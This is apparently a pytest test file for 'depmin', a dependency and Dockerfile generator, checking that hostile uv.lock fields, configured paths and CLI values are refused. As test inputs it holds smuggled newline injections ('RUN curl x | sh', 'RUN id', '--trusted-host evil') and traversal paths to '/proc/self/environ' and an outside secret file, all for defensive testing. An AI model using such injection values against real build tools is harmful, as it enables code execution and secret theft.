"""Hostile repositories: nothing from uv.lock, pyproject.toml or a file name is written into a
generated file unless it is safe there, and no configured path leaves the root."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from dockerfile_parse import DockerfileParser
from hypothesis import HealthCheck, event, given, settings, target
from hypothesis import strategies as st
from packaging.requirements import Requirement

from depmin.commands import main
from depmin.errors import LockError
from depmin.lock.parse import parse_lock

from ..helpers import FIXTURES, snapshot

SMALLSVC = FIXTURES / "smallsvc"
LOCK = (SMALLSVC / "uv.lock").read_text()


@pytest.fixture
def project(tmp_path) -> Path:
    """A copy of fixtures/smallsvc beside a sentinel directory that nothing may touch."""
    root = tmp_path / "repo"
    shutil.copytree(SMALLSVC, root)
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.txt").write_text("SECRET=do-not-print\n")
    return root


def invoke(runner, root: Path, *arguments: str):
    return runner.invoke(main, [*arguments[:1], "--root", str(root), *arguments[1:]])


# -- uv.lock writes the requirements file: never ---------------------------------------------


@pytest.mark.parametrize(
    "old, new, message",
    [
        ('version = "6.0.4"', 'version = "6.0.4\\n--index-url http://127.0.0.1:9/simple"', "invalid version"),
        ('name = "pyyaml"', 'name = "pyyaml\\u2028--index-url http://127.0.0.1:9/simple"', "invalid package name"),
        ('name = "six"\nversion = "1.17.0"', 'name = "six"\nversion = "1.17.0 ; --pre"', "invalid version"),
        ('hash = "sha256:', 'hash = "sha256:\\n--trusted-host evil ', "invalid hash"),
        ('source = { registry = "https://pypi.org/simple" }\nsdist', 'source = "x"\nsdist', "`source` must be a table"),
    ],
)
def test_a_hostile_lock_is_an_error_at_its_line_and_writes_nothing(runner, project, old, new, message):
    text = LOCK.replace(old, new, 1)
    assert text != LOCK
    (project / "uv.lock").write_text(text)
    before = snapshot(project.parent)
    result = invoke(runner, project, "sync")
    assert result.exit_code == 2
    assert message in result.stderr and "uv.lock:" in result.stderr
    line = int(result.stderr.split("uv.lock:")[1].split(":")[0])
    assert text.splitlines()[line - 1] == "[[package]]"
    assert "Traceback" not in result.output and "internal error" not in result.output
    assert snapshot(project.parent) == before


def test_malformed_manifest_members_is_an_error(project):
    with pytest.raises(LockError) as caught:
        parse_lock((LOCK + "\n[manifest]\nmembers = 5\n").encode(), "uv.lock")
    assert "manifest.members" in str(caught.value)


# -- configured paths never leave the root ----------------------------------------------------


@pytest.mark.parametrize(
    "key, value, expected",
    [
        ("requirements", "/proc/self/environ", "must be relative"),
        ("requirements", "../outside/secret.txt", "resolves outside the project root"),
        ("requirements", "linked/secret.txt", "resolves outside the project root"),
        ("requirements", "uv.lock", "not a file depmin may write"),
        ("requirements", "pyproject.toml", "not a file depmin may write"),
        ("copy-list", "svc/main.py", "not a file depmin may write"),
        ("requirements", ".git/config", "not a file depmin may write"),
        ("data", '["../outside/"]', "resolves outside the project root"),
        ("entries", '["svc/", "../outside"]', "resolves outside the project root"),
        ("entries", '["svc/\\nRUN curl x | sh/../.."]', "line break"),
        ("data", '["settings/\\nRUN id"]', "line break"),
    ],
)
def test_paths_from_the_configuration_stay_inside_the_root(runner, project, key, value, expected):
    (project / "linked").symlink_to(project.parent / "outside")
    pyproject = (project / "pyproject.toml").read_text()
    line = f"{key} = {value if value.startswith('[') else repr(value).replace(chr(39), chr(34))}"
    pattern = {
        "requirements": 'requirements = "requirements/svc.txt"',
        "copy-list": 'copy-list = "requirements/svc.copy"',
        "data": 'data = ["settings/"]',
        "entries": 'entries = ["svc/"]',
    }[key]
    (project / "pyproject.toml").write_text(pyproject.replace(pattern, line))
    before = snapshot(project.parent)
    for command in ("sync", "check"):
        result = invoke(runner, project, command)
        assert result.exit_code == 2, (command, result.output)
        assert expected in result.stderr and f"tool.depmin.targets.svc.{key}" in result.stderr
        assert "SECRET" not in result.output and "Traceback" not in result.output
        assert result.stderr.startswith("pyproject.toml:")
    assert snapshot(project.parent) == before


def test_a_target_name_that_cannot_be_written_is_an_error(runner, project):
    pyproject = (project / "pyproject.toml").read_text()
    (project / "pyproject.toml").write_text(
        pyproject.replace("[tool.depmin.targets.svc]", '[tool.depmin.targets."svc\\nRUN id"]')
    )
    result = invoke(runner, project, "check")
    assert result.exit_code == 2 and "target name" in result.stderr


# -- Dockerfile and .dockerignore injection ----------------------------------------------------


def test_a_hostile_base_image_is_refused(runner, project, tmp_path):
    output = tmp_path / "Dockerfile"
    result = invoke(
        runner, project, "dockerfile", "--target", "svc", "--base", "python:3.12\nRUN curl x | sh", "-o", str(output)
    )
    assert result.exit_code == 2 and "base image" in result.stderr
    assert not output.exists()


def test_a_hostile_entry_on_the_command_line_is_refused(runner, project, tmp_path):
    output = tmp_path / "Dockerfile"
    result = invoke(
        runner,
        project,
        "dockerfile",
        "svc/\nRUN curl x | sh/../..",
        "--requirements",
        "requirements/svc.txt",
        "-o",
        str(output),
    )
    assert result.exit_code == 2 and "cannot be written safely" in result.stderr
    assert not output.exists()


def test_paths_with_spaces_use_the_json_form(runner, project, tmp_path):
    (project / "my settings").mkdir()
    (project / "my settings" / "a.yaml").write_text("a: 1\n")
    pyproject = (project / "pyproject.toml").read_text()
    (project / "pyproject.toml").write_text(pyproject.replace('data = ["settings/"]', 'data = ["my settings/"]'))
    output = tmp_path / "Dockerfile"
    result = invoke(runner, project, "dockerfile", "--target", "svc", "-o", str(output))
    assert result.exit_code == 0, result.output
    (tmp_path / "parsed").mkdir()
    parser = DockerfileParser(path=str(tmp_path / "parsed"))
    parser.content = output.read_text()
    copies = [i["value"] for i in parser.structure if i["instruction"] == "COPY"]
    assert '--chown=10001:10001 ["my settings/", "./my settings/"]' in copies


# -- every string field of a lock, filled with any text -----------------------------------------

FIELDS = ['name = "six"', 'version = "1.17.0"', 'name = "idna"', 'version = "3.20"']
# Arbitrary text is almost always refused at parse time; plausible values (that may still hold a
# hostile character) keep the asserting branch reached in most examples.
PLAUSIBLE = st.one_of(
    st.from_regex(r"[a-z][a-z0-9._-]{0,12}[a-z0-9]", fullmatch=True),
    st.from_regex(r"[0-9]{1,3}(\.[0-9]{1,3}){0,3}((a|b|rc|\.post|\.dev)[0-9]{1,2})?", fullmatch=True),
    st.text(min_size=1, max_size=30),
)


@given(st.sampled_from(FIELDS), PLAUSIBLE)
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_text_in_a_lock_either_fails_or_writes_parsable_requirements(project, field, text):
    from depmin.model import Target
    from depmin.outputs.requirements import requirements_text

    from ..helpers import run_analysis

    key = field.split(" = ")[0]
    escaped = text.encode("unicode_escape").decode("ascii").replace('"', '\\"')
    lock = LOCK.replace(field, f'{key} = "{escaped}"', 1)
    (project / "uv.lock").write_text(lock)
    try:
        analysis = run_analysis(project, "svc/", python=(3, 11), lock=project / "uv.lock")
    except LockError:
        event("refused by the lock parser")
        return
    closure = analysis.closure
    if closure.errors:
        event("refused by the analysis")
        return
    event("written")
    written = requirements_text(closure, "depmin sync")
    lines = [line for line in written.splitlines() if line and not line.lstrip().startswith(("#", "--hash"))]
    requirements = [Requirement(line.rstrip(" \\")) for line in lines]
    target(1.0, label="reached the assertions")
    assert len(requirements) == len(closure.pinned)
    assert Target((3, 11)).python_version in written
